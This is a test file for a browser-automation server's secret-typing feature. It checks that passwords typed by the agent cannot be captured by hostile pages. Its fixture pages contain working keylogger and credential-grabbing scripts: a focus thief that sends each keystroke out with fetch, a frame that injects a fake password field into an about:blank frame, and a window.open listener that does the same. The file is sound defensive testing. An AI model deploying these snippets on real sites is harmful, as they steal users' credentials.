// A secret typed by write, attacked as a hostile page would: a frame that steals the focus gets no
// keystroke of it, an about:blank frame of another origin is refused, an allowed https URL does not
// open http, a script near the field refuses the write, and after the write (which empties its field
// before it answers, spec §1.17) no read, key, picture or script brings a piece of it back.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type Fixture, html, serveFixture } from "../support/fixtures.ts";
import { mcpClient } from "../support/mcp.ts";
import { decode } from "../support/png.ts";
import { endAll, logLines, startServer, type TestServer } from "../support/server.ts";

const W = "secrets-attacks";
const PASSWORD = "Zq7-Wv9xj-Kp4wX";
const TOKEN = "tls-only-9Vb2qT";
const stolen: string[] = [];
const bodies: string[] = [];
let server: TestServer;
let site: Fixture;

// The bound host's login page: the field reports only how long its value is, in the title: the most
// it held, and what it holds now.
const LOGIN = `<title>Login</title><label>Password <input id=pw type=password></label>
<script>let most = 0; pw.addEventListener("input", () => { most = Math.max(most, pw.value.length); document.title = "len " + most + " now " + pw.value.length; });</script>`;
const TYPED = `len ${PASSWORD.length} now 0`;
// A focus thief: takes the focus back whenever its window loses it, and reports every key it gets.
const THIEF = `<input id=steal autofocus><script>
const grab = () => setTimeout(() => { window.focus(); steal.focus(); }, 0);
window.addEventListener("blur", grab);
document.addEventListener("focusout", grab);
setInterval(() => { if (document.activeElement !== steal || !document.hasFocus()) { window.focus(); steal.focus(); } }, 2);
document.addEventListener("keydown", (e) => fetch("/stolen?k=" + encodeURIComponent(e.key)));
</script>`;

/** Every 4-character run of value. */
const pieces = (value: string) => [...value].slice(0, -3).map((_, i) => value.slice(i, i + 4));

async function call(path: string, body: unknown = {}) {
  const res = await server.call("POST", path, body, W);
  bodies.push(JSON.stringify(res.body));
  return res;
}

beforeAll(async () => {
  site = serveFixture({
    "/login": () => html(LOGIN),
    "/ad-login": () =>
      html(`${LOGIN}<iframe src="${site.url("/thief", "ads.example.test")}" width=300 height=80></iframe>`),
    "/thief": () => html(THIEF),
    "/evil-top": () =>
      html(
        `<title>Evil</title>${THIEF}<iframe id=f src="${site.url("/login")}" width=400 height=120></iframe>`,
      ),
    // A third-party frame that turns itself into about:blank, filled with a sign-in form by a sibling of its origin.
    "/blank-attack": () =>
      html(`<title>Blank</title><iframe id=x name=x src="${site.url("/self-blank", "ads.example.test")}"></iframe>
<iframe src="${site.url("/filler", "ads.example.test")}"></iframe>`),
    "/self-blank": () => html(`<script>location.href = "about:blank";</script>`),
    "/filler": () =>
      html(`<script>const fill = () => { const d = parent.frames.x.document;
if (!d || d.getElementById("pw")) return;
d.body.innerHTML = '<label>Password <input id=pw type=password></label>';
d.getElementById("pw").addEventListener("input", (e) => fetch("/stolen?k=" + encodeURIComponent(e.target.value)));
}; setInterval(() => { try { fill(); } catch (e) {} }, 20);</script>`),
    // Echoes every prefix of what is typed, and puts the first six characters in the title.
    "/echo": () =>
      html(`<title>Echo</title><label>Token <input id=tok></label><div id=echo></div><script>
tok.addEventListener("input", () => { let o = ""; for (let k = 1; k <= tok.value.length; k++) o += tok.value.slice(0, k) + " ";
echo.textContent = o; document.title = "Echo " + tok.value.slice(0, 6); });</script>`),
    // A big text field at a known place, black on white; the page notes how the field is painted
    // whenever it holds a value.
    "/big": () =>
      html(`<title>Big</title><style>body { margin: 0; background: #fff; }
#big { position: absolute; left: 40px; top: 40px; width: 500px; height: 80px; font: 48px monospace; color: #000; background: #fff; border: 0; outline: 0; caret-color: transparent; }
#note { position: absolute; left: 40px; top: 200px; font: 48px monospace; }
#seen { position: absolute; left: 40px; top: 300px; font: 12px monospace; }</style><input id=big><div id=note>visible</div><p id=seen></p>
<script>big.addEventListener("input", () => { if (!big.value) return; const cs = getComputedStyle(big);
seen.textContent += cs.webkitTextSecurity + " " + cs.color + ";"; });</script>`),
    // A rich editor beside a focus thief: it reports how long its text is (the most, and now).
    "/editor": () =>
      html(`<title>Editor</title><div id=ed contenteditable style="width:300px;height:40px">old</div>
<iframe src="${site.url("/thief", "ads.example.test")}"></iframe>
<script>let most = 0; ed.addEventListener("input", () => { most = Math.max(most, ed.textContent.length); document.title = "len " + most + " now " + ed.textContent.length; });</script>`),
    "/opener": () => html(`<title>Opener</title><script>var w = null;</script>`),
    "/stolen": (req) => {
      stolen.push(new URL(req.url).searchParams.get("k") ?? "");
      return new Response("ok");
    },
  });
  server = await startServer({
    configure: (c) => {
      c.secrets.hold_ms = 300;
      c.secrets.entries = {
        app: {
          description: "the fixture app's password",
          allowed_urls: ["app.example.test"],
          keys: { password: { value: PASSWORD } },
        },
        tls: {
          description: "only over https",
          allowed_urls: [`https://app.example.test:${site.port}/`],
          keys: { token: { value: TOKEN } },
        },
      };
    },
  });
});

afterAll(async () => {
  await endAll(server, [W]);
  await server.close();
  site.stop();
  const everything = [...bodies, ...logLines].join("\n");
  for (const v of [PASSWORD, TOKEN, btoa(PASSWORD), ...pieces(PASSWORD)]) expect(everything).not.toContain(v);
});

describe("focus theft", () => {
  test("an ad iframe on the bound host's page that steals the focus gets no keystroke", async () => {
    stolen.length = 0;
    expect((await call("/browser/navigate", { url: site.url("/ad-login") })).status).toBe(200);
    await Bun.sleep(300);
    const w = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(200);
    expect(w.body.title).toBe(TYPED);
    await Bun.sleep(300);
    expect(stolen).toEqual([]);
  });

  test("a hostile top page around a bound-host frame gets no keystroke", async () => {
    stolen.length = 0;
    expect(
      (await call("/browser/navigate", { url: site.url("/evil-top", "evil.example.test") })).status,
    ).toBe(200);
    expect((await call("/browser/switch", { frame: { css: "#f" } })).status).toBe(200);
    await Bun.sleep(300);
    const w = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(200);
    expect(w.body.title).toBe(TYPED);
    await Bun.sleep(300);
    expect(stolen).toEqual([]);
  });
});

test("a rich editor takes the secret whole, emptied first, with a focus thief beside it; it is empty after", async () => {
  stolen.length = 0;
  expect((await call("/browser/navigate", { url: site.url("/editor") })).status).toBe(200);
  await Bun.sleep(300);
  const w = await call("/browser/write", {
    selector: { css: "#ed" },
    secret: { name: "app", key: "password" },
    submit: "auto",
  });
  expect([w.status, w.body.error]).toEqual([200, undefined]);
  expect(w.body.title).toBe(TYPED);
  expect((await call("/browser/extract", { selector: { css: "#ed" } })).body.result).toBe("");
  const read = JSON.stringify((await call("/browser/read")).body);
  for (const p of pieces(PASSWORD)) expect(read).not.toContain(p);
  await Bun.sleep(300);
  expect(stolen).toEqual([]);
});

describe("where a document is", () => {
  test("an about:blank frame of another origin inside the bound host's page is refused", async () => {
    stolen.length = 0;
    expect((await call("/browser/navigate", { url: site.url("/blank-attack") })).status).toBe(200);
    await Bun.sleep(500);
    expect((await call("/browser/switch", { frame: { css: "#x" } })).status).toBe(200);
    const w = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(400);
    expect(w.body.error).toContain("may not be typed on ads.example.test");
    await Bun.sleep(300);
    expect(stolen).toEqual([]);
    await call("/browser/switch", { frame: null });
  });

  test("a secret bound to an https URL is refused on http of the same host and port", async () => {
    expect((await call("/browser/navigate", { url: site.url("/login") })).status).toBe(200);
    const w = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "tls", key: "token" },
      submit: "auto",
    });
    expect(w.status).toBe(400);
    expect(w.body.error).toContain("may not be typed on app.example.test (http:");
    expect((await call("/browser/read")).body.title).toBe("Login");
  });
});

describe("scripts around the write", () => {
  test("a write is refused on a document a script armed with a copier", async () => {
    expect((await call("/browser/navigate", { url: site.url("/login") })).status).toBe(200);
    const armed = await call("/browser/script", {
      script: `pw.addEventListener("input", () => { document.title = btoa(pw.value); }); return true`,
    });
    expect(armed.body.result).toBe(true);
    const w = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(400);
    expect(w.body.error).toContain("a script");
    expect((await call("/browser/read")).body.title).toBe("Login");
    // The page loaded again is a new document: the write goes in, and the copier is gone with the old one.
    await call("/browser/navigate", { reload: true });
    const fresh = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(fresh.status).toBe(200);
    expect(fresh.body.title).toBe(TYPED);
  });

  test("a tab a script opened (window.open) and planted a listener in is refused, even after its opener left; fresh, it takes the write", async () => {
    stolen.length = 0;
    expect((await call("/browser/navigate", { url: site.url("/opener") })).status).toBe(200);
    const opened = await call("/browser/script", {
      script: `w = window.open("${site.url("/login")}");
w.addEventListener("load", () => w.document.getElementById("pw").addEventListener("input", (e) => fetch("/stolen?k=" + encodeURIComponent(e.target.value))));
return true`,
    });
    expect(opened.body.result).toBe(true);
    await Bun.sleep(500);
    expect((await call("/browser/switch", { tab: 1 })).status).toBe(200);
    const write = () =>
      call("/browser/write", {
        selector: { css: "#pw" },
        secret: { name: "app", key: "password" },
        submit: "auto",
      });
    const w = await write();
    expect(w.status).toBe(400);
    expect(w.body.error).toContain("a script of yours");
    expect((await call("/browser/read")).body.title).toBe("Login");
    // The opener's reference reads the field: it holds nothing.
    expect((await call("/browser/switch", { tab: 0 })).status).toBe(200);
    const read = await call("/browser/script", { script: "w.document.getElementById('pw').value" });
    expect(read.status).toBe(200);
    expect(read.body.result).toBe("");
    // The opener goes to another site: the tab it planted code in still holds that code, and is refused.
    expect((await call("/browser/navigate", { url: site.url("/opener", "evil.example.test") })).status).toBe(
      200,
    );
    await call("/browser/switch", { tab: 1 });
    const planted = await write();
    expect(planted.status).toBe(400);
    expect(planted.body.error).toContain("a script of yours");
    // Loaded again, it is a new document no script of the agent's reached: the write goes in.
    await call("/browser/navigate", { reload: true });
    const fresh = await write();
    expect(fresh.status).toBe(200);
    expect(fresh.body.title).toBe(TYPED);
    await Bun.sleep(300);
    expect(stolen).toEqual([]);
    await call("/browser/switch", { tab: "close" });
  });
});

describe("no piece comes back", () => {
  test("a page that echoes every prefix of the field: after the write the echo is empty, and keys edit only what is there", async () => {
    expect((await call("/browser/navigate", { url: site.url("/echo") })).status).toBe(200);
    // The echo works: plain text comes back as the page shows it.
    await call("/browser/write", { selector: { css: "#tok" }, text: "abc" });
    expect((await call("/browser/extract", { selector: { css: "#echo" } })).body.result).toBe("a ab abc");
    const w = await call("/browser/write", {
      selector: { css: "#tok" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(200);
    expect(w.body.title).toBe("Echo");
    const read = await call("/browser/read");
    const text = JSON.stringify(read.body);
    for (const p of pieces(PASSWORD)) expect(text).not.toContain(p);
    expect(read.body.elements.find((e: { name?: string }) => e.name === "Token").value ?? "").toBe("");
    // Editing in place is a person's gesture again: it edits what is there, which is nothing of the secret.
    const pressed = await call("/browser/interact/press", {
      selector: { css: "#tok" },
      keys: "ArrowLeft ArrowLeft Z",
    });
    expect(pressed.status).toBe(200);
    const value = await call("/browser/extract", { selector: { css: "#tok" }, get: "value" });
    expect(value.body.result).toBe("Z");
    const echo = await call("/browser/extract", { selector: { css: "#echo" } });
    expect(echo.status).toBe(200);
    expect(echo.body.result).toBe("Z");
  });
});

describe("pictures", () => {
  // How many pixels of the box are not plain white (the text drawn there).
  const inked = (base64: string, box: { x: number; y: number; w: number; h: number }) => {
    const pic = decode(Buffer.from(base64, "base64"));
    if (!pic) throw new Error("not a PNG this test reads");
    let n = 0;
    for (let y = box.y; y < box.y + box.h; y++) {
      for (let x = box.x; x < box.x + box.w; x++) {
        const p = (y * pic.width + x) * pic.bpp;
        const [r, g, b] = [pic.rows[p], pic.rows[p + 1], pic.rows[p + 2]];
        if (!(r === 255 && g === 255 && b === 255)) n++;
      }
    }
    return n;
  };

  const filed = async (shot: { body: { file: { url: string } } }) =>
    Buffer.from(await (await fetch(`${server.url}${shot.body.file.url}`)).arrayBuffer()).toBase64();

  test("while the value is in, the field is painted without its text; after the write its box shows no text; the rest of the page shows", async () => {
    expect((await call("/browser/navigate", { url: site.url("/big") })).status).toBe(200);
    // The opposite first: plain text in the same field shows.
    await call("/browser/write", { selector: { css: "#big" }, text: "plain words" });
    const plain = await call("/browser/screenshot");
    expect(plain.status).toBe(200);
    expect(inked(await filed(plain), { x: 40, y: 40, w: 500, h: 80 })).toBeGreaterThan(50);
    const w = await call("/browser/write", {
      selector: { css: "#big" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(200);
    // How the page saw its field painted: discs of no colour, then (the write's own text) as it was.
    const seen = await call("/browser/extract", { selector: { css: "#seen" } });
    expect(seen.body.result).toBe("none rgb(0, 0, 0);disc rgba(0, 0, 0, 0);");
    const shot = await call("/browser/screenshot");
    expect(shot.status).toBe(200);
    const png = await filed(shot);
    expect(inked(png, { x: 40, y: 40, w: 500, h: 80 })).toBe(0);
    expect(inked(png, { x: 40, y: 200, w: 200, h: 50 })).toBeGreaterThan(50);
    // A PDF of the page shows the rest of it, and nothing of the value.
    const print = await call("/browser/print");
    expect(print.status).toBe(200);
    const pdf = await (await fetch(`${server.url}${print.body.file.url}`)).bytes();
    const text = Bun.spawnSync(["pdftotext", "-", "-"], { stdin: pdf }).stdout.toString();
    expect(text).toContain("visible");
    for (const p of pieces(PASSWORD)) expect(text).not.toContain(p);
  });
});

describe("MCP with secrets configured", () => {
  test("read_page still gives the outline and screenshot the image", async () => {
    const mcp = await mcpClient(server, W);
    await call("/browser/navigate", { url: site.url("/login") });
    const read = await mcp.tool("read_page");
    expect(read.isError).toBeFalsy();
    expect(read.content[0].type).toBe("text");
    expect(read.content[0].text).toContain("textbox");
    expect(() => JSON.parse(read.content[0].text)).toThrow();
    const shot = await mcp.tool("screenshot");
    expect(shot.content.some((c: { type: string }) => c.type === "image")).toBe(true);
  });
});
